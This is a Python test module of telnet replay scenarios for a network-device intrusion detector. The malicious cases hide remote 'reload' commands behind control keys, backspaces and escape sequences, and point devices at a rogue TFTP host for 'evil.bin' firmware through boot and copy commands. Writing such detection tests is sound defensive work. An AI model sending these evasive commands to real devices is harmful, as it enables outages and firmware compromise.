"""BW05 and BW07: what people type besides commands: blanks, keys without Enter, lines taken back, and other ports."""

from __future__ import annotations

from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import ATTACKER, DEVICE, HQ, ROGUE
from bootwarden.traffic.telnet import BACKSPACE, KILL_LINE, Telnet
from bootwarden.traffic.wire import Wire

OPERATOR = "10.0.2.30"
REDRAW, CANCEL, KILL_WORD, RUN_AND_LEAVE = "\x0c", "\x03", "\x17", "\x1a"
START_OF_LINE, KILL_REST = "\x01", "\x0b"


def pasted(wire: Wire, last: int, data: str, *, client: str = ATTACKER) -> None:
    """What somebody sends at once; the device shows nothing of it."""
    session = Telnet(wire, client, f"10.0.1.{last}")
    session.tcp.send(data.encode())
    session.close()


@scenario(
    "BW05",
    "malicious",
    raises=[("BW05", 3, ATTACKER, f"10.0.1.{last}") for last in range(101, 116)],
    site=HQ,
    with_site=Expect(
        tuple(Notice("Remote_Reload", f"10.0.1.{last}") for last in (101, 102, 103, 104, *range(107, 116)))
    ),
)
def bw05_keys_and_blanks(wire: Wire) -> None:
    """Blanks before `reload`; LF alone; ^Z, ^C, ^W and keys for a pager or a question before it; much rubbed out.

    The cursor goes to the left and back, what stands before is killed by ^A and ^K, the history is looked through.
    """
    pasted(wire, 101, "   reload\r\0")
    pasted(wire, 102, "enable\nreload\n")
    pasted(wire, 103, f"conf t\r\0hostname x{RUN_AND_LEAVE}reload\r\0")
    pasted(wire, 104, f"show ver{CANCEL}reload\r\0")
    pasted(wire, 105, "show running-config\r\0  qreload\r\0")
    pasted(wire, 106, "clear counters\r\0yreload\r\0")
    pasted(wire, 107, f"shutdown{KILL_WORD}reload\r\0")
    pasted(wire, 108, f"{'x' * 800}\r\0r{f'x{BACKSPACE}' * 300}eload\r\0")
    pasted(wire, 109, f"show ip route{KILL_WORD * 3}reload\r\0")
    pasted(wire, 110, f"{REDRAW}relo{REDRAW}ad\r\0")
    pasted(wire, 111, "rel\x12oad\r\0")
    pasted(wire, 112, "conf t ; reload\r\0")
    pasted(wire, 113, "re\x01\x05loa\x1b[D\x1b[Cd\x0b\r\0")
    pasted(wire, 114, f"show run{START_OF_LINE}{KILL_REST}reload\r\0")
    pasted(wire, 115, "enable\r\0\x1b[A\x1b[Breload\r\0")


@scenario(
    "BW05",
    "benign",
    site=HQ,
    with_site=Expect(evidence=()),
)
def bw05_reload_taken_back(wire: Wire) -> None:
    """`reload` is killed, cancelled, rubbed out letter by letter or as a word, and asked about: nothing restarts."""
    pasted(wire, 101, f"reload {KILL_LINE}show clock\r\0", client=OPERATOR)
    pasted(wire, 102, f"reload{CANCEL}show clock\r\0", client=OPERATOR)
    pasted(wire, 103, f"reload{BACKSPACE * 6}show clock\r\0", client=OPERATOR)
    pasted(wire, 104, f"reload{KILL_WORD}show clock\r\0", client=OPERATOR)
    pasted(wire, 105, f"show reload\r\0{'y' * 800}\r\0", client=OPERATOR)
    pasted(wire, 106, "reload ?", client=OPERATOR)
    pasted(wire, 107, f"reload{START_OF_LINE}{KILL_REST}show clock\r\0", client=OPERATOR)


@scenario(
    "BW07",
    "malicious",
    raises=[("BW07", 0, ATTACKER, DEVICE), ("BW07", 1, ATTACKER, "10.0.1.2")],
    site=HQ,
    with_site=Expect(
        (Notice("Boot_Command", DEVICE, ROGUE, "evil.bin"), Notice("Boot_Command", "10.0.1.2", ROGUE, "evil.bin"))
    ),
)
def bw07_keys_and_blanks(wire: Wire) -> None:
    """The same keys about boot commands, with telnet's negotiation before them."""
    session = Telnet(wire, ATTACKER, DEVICE)
    session.tcp.send(b"\xff\xfd\x01\xff\xfb\x18" + f"  boot system tftp evil.bin {ROGUE}\r\0".encode())
    session.close()
    pasted(wire, 2, f"abc{CANCEL}copy oops{KILL_WORD}tftp://{ROGUE}/evil.bin flash:\n")
